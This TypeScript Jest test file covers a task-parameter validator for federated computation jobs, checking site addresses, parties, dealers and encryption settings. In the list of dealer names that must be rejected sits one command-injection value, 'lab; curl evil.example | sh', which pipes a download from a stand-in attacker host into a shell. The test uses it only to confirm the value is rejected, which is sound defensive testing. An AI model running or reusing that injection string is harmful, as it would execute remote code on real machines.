import { expect, test } from '@jest/globals';
import { couldBeAtSites, isAtSites, sitesRunOn } from './at-sites.js';
import { checkTaskParams } from './check-params.js';

const psi = { keys: { alice: ['id'], bob: ['id'] }, input_paths: { alice: 'a.csv', bob: 'b.csv' } };
const correlation = { input_data: { alice: 'a.csv', bob: 'b.csv' }, columns: { alice: ['x'], bob: ['y'] } };
const faults = (type: string, config: object, init: object, more: object = {}) =>
  checkTaskParams(type, { ...more, task_config: config, sf_init_config: { parties: ['alice', 'bob'], ...init } })
    .filter(({ pointer }) => pointer.startsWith('/sf_init_config'))
    .map(({ pointer, message }) => `${pointer} ${message}`);

test('a task runs at sites where its type does, by native, with a dealer where it needs one', () => {
  expect(faults('psi', psi, { address: 'node' })).toEqual([]);
  expect(faults('psi', psi, { address: 'node' }, { engine: 'native' })).toEqual([]);
  expect(faults('pearson_correlation', correlation, { address: 'node', dealer: 'lab' })).toEqual([]);
  expect(faults('psi', psi, { address: 'node' }, { engine: 'secretflow' })).toEqual([]);
  expect(['psi', 'psi_count'].map((type) => sitesRunOn(type, 'secretflow'))).toEqual([true, false]);
  for (const [type, why] of [
    [
      'http',
      'sites call no address that a task names. It reads no table: leave sf_init_config out, and a worker calls',
    ],
    ['report', 'it reads results alone, which the control plane has: leave sf_init_config out, and a worker makes it'],
    [
      'script',
      expect.stringMatching(/^sites start no command that a task names\. Run the command at the site by hand/),
    ],
    ['diagnostic', 'sites do not run diagnostic'],
  ] as [string, string][]) {
    const [fault] = faults(type, {}, { address: 'node' });
    expect(fault?.replace('/sf_init_config/address must be "local" or absent: ', '')).toEqual(why);
  }
  expect(faults('pearson_correlation', correlation, { address: 'node' })).toEqual([
    '/sf_init_config/dealer is required: the name of the dealer whose site takes part in pearson_correlation',
  ]);
  // A site names it in a command for a person to type.
  for (const dealer of ['alice', 7, '', '#neutral', 'lab; curl evil.example | sh', 'lab\n', `l${'a'.repeat(64)}`])
    expect(faults('pearson_correlation', correlation, { address: 'node', dealer })).toEqual([
      '/sf_init_config/dealer must be the name of a dealer that is no party of the task',
    ]);
  expect(faults('psi', psi, { address: 'node', dealer: 'lab' })).toEqual([
    '/sf_init_config/dealer must be absent: this psi has no dealer',
  ]);
  expect(faults('psi', psi, { address: 'ray://head' })).toHaveLength(1);
});

test('those alone take part whose tables are read, with a dealer only where several are', () => {
  const own = { input_data: { alice: 'a.csv' }, columns: { alice: ['x', 'z'] } };
  expect(faults('vif', own, { address: 'node', parties: ['alice'] })).toEqual([]);
  expect(faults('vif', own, { address: 'node' })).toEqual([
    '/sf_init_config/parties must leave out bob: at sites those alone take part whom task_config.input_data names',
  ]);
  expect(faults('vif', own, { address: 'node', parties: ['alice'], dealer: 'lab' })).toEqual([
    '/sf_init_config/dealer must be absent: this vif has no dealer',
  ]);
  const model = { model: { alice: 'm.json' }, format: 'onnx' };
  expect(faults('model_export', model, { address: 'node', parties: ['alice'] })).toEqual([]);
  expect(
    faults('model_export', { ...model, coefficients_to: ['alice'] }, { address: 'node', parties: ['alice'] }),
  ).toEqual(['/sf_init_config/dealer is required: the name of the dealer whose site takes part in model_export']);
});

test('models are named at sites, which get no results of other tasks', () => {
  for (const type of ['aggregate', 'merge_models']) {
    const params = { task_config: {}, sf_init_config: { parties: ['alice', 'bob'], address: 'node' } };
    expect(checkTaskParams(type, params)).toEqual([
      { pointer: '/task_config/models', message: expect.stringContaining('is required at sites') },
    ]);
    for (const models of [{ alice: 'a.json', bob: ['b.json', 'c.json'] }, '${tasks.train.result.model_paths}'])
      expect(checkTaskParams(type, { ...params, task_config: { models } })).toEqual([]);
  }
});

test('files are encrypted at the site of their party, and results elsewhere', () => {
  const recipients = ['age1qtfw50puce2vh2gthyz6scnteddde83pvunkz9qkpu68f0h0r59q2t5qha'];
  const own = { recipients, input_data: { alice: 'a.csv' } };
  const at = (config: object, address?: string) =>
    checkTaskParams('encrypt', {
      task_config: config,
      sf_init_config: { parties: ['alice'], ...(address && { address }) },
    });
  expect(at(own, 'node')).toEqual([]);
  expect(at({ ...own, results: false }, 'node')).toEqual([]);
  for (const results of [true, '${tasks.t.result.x}'])
    expect(at({ ...own, results }, 'node')).toEqual([
      { pointer: '/task_config/results', message: expect.stringContaining('by another task, with "address": "local"') },
    ]);
  expect(at({ recipients }, 'node')).toEqual([
    { pointer: '/task_config/input_data', message: expect.stringContaining('is required at sites') },
  ]);
  const could = (config: object) =>
    couldBeAtSites('encrypt', { task_config: config, sf_init_config: { parties: ['alice'] } });
  expect([own, { ...own, results: true }, { recipients }, { recipients, results: true }].map(could)).toEqual([
    ...[['alice'], ['alice']],
    ...[undefined, undefined],
  ]);
});

test('parties add up at sites themselves: no dealer takes part in a sum', () => {
  const joint = { input_data: psi.input_paths, columns: ['x'], epsilon: 1, joint: true };
  expect(faults('table_statistics', joint, { address: 'node' })).toEqual([]);
  const fit = { train_data: psi.input_paths, features: ['x'], label: 'y' };
  expect(faults('federated_training', fit, { address: 'node' })).toEqual([]);
  expect(faults('federated_training', fit, { address: 'node', dealer: 'lab' })).toEqual([
    '/sf_init_config/dealer must be absent: this federated_training has no dealer',
  ]);
});

test('a task could run at sites if it says no address, all that it names is written out, and its type and engine run there', () => {
  const could = (type: string, init: unknown, more: object = {}) =>
    couldBeAtSites(type, { task_config: psi, sf_init_config: init, ...more });
  expect(could('psi', { parties: ['alice', 'bob'] })).toEqual(['alice', 'bob']);
  expect(could('psi', { parties: { alice: {}, bob: {} } }, { engine: 'native' })).toEqual(['alice', 'bob']);
  for (const [type, init, more] of [
    ['psi', { parties: ['alice', 'bob'], address: 'local' }],
    ['psi', { parties: ['alice', 'bob'], address: 'node' }],
    ['psi', { parties: { alice: { address: 'local' }, bob: {} } }],
    ['psi', { parties: ['alice', 'bob'] }, { engine: 'secretflow' }],
    ['psi', { parties: ['alice', '${tasks.t.result.other}'] }],
    ['psi', { parties: ['alice', 7] }],
    ['psi', { parties: [] }],
    ['psi', { parties: 'alice' }],
    ['psi', undefined],
    ['http', { parties: ['alice', 'bob'] }],
    ['toString', { parties: ['alice', 'bob'] }],
  ] as const)
    expect([type, init, could(type, init, more)]).toEqual([type, init, undefined]);
});

test('only the address says so', () => {
  expect(isAtSites({ sf_init_config: { address: 'node' } })).toBe(true);
  for (const params of [null, {}, { sf_init_config: null }, { sf_init_config: { address: 'local' } }])
    expect(isAtSites(params)).toBe(false);
});
